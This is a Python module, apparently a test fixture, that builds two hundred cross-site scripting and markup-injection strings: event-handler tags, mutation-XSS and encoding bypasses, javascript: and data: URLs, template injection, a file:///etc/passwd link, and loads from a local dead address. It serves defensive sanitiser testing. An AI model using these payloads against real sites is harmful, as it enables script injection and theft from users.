"""Two hundred strings that run, load or lead away wherever a page takes text for markup."""

from __future__ import annotations

import itertools

RUN = "window.__xss=1"
AWAY = "http://127.0.0.1:9/x"  # nothing listens there; a request to it is a failure all the same

_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")
_TAGS = (
    "<img src=x {h}={r}>",
    "<svg {h}={r}>",
    "<body {h}={r}>",
    "<details open {h}={r}>x</details>",
    "<input autofocus {h}={r}>",
    "<video src=x {h}={r}></video>",
    "<a href=# {h}={r}>x</a>",
    "<iframe src=about:blank {h}={r}></iframe>",
    "<style>@keyframes a{{}}</style><p {h}={r}>",
)
_WRAPS = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "--><!-- -->{}", "]]>{}", "{}\u2028\n\ndata: {}")
_WHOLE = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}.js></script>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<img src={AWAY}.png>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<object data={AWAY}></object>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"![x]({AWAY}.png)",
    f"[click](javascript:{RUN})",
    f"<{AWAY}>",
    f"[1]({AWAY}) [1]: {AWAY}",
    f"javascript:{RUN}",
    f" java\nscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    f"//{AWAY[7:]}",
    f"https://user:secret@{AWAY[7:]}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\u202e<script>{RUN}</script>\u202c",
    "event: done\ndata: {}\n\n",
    "\r\n\r\ndata: x\r\n\r\n",
)


def payloads(number: int = 200) -> list[str]:
    """All whole ones first, then every tag with every handler in every wrapping, in a fixed order."""
    made = itertools.product(_WRAPS, _TAGS, _HANDLERS)
    mixed = (wrap.replace("{}", tag.format(h=handler, r=RUN)) for wrap, tag, handler in made)
    every = 3  # steps over neighbours that differ in the handler alone
    return [*_WHOLE, *itertools.islice(mixed, 0, None, every)][:number]
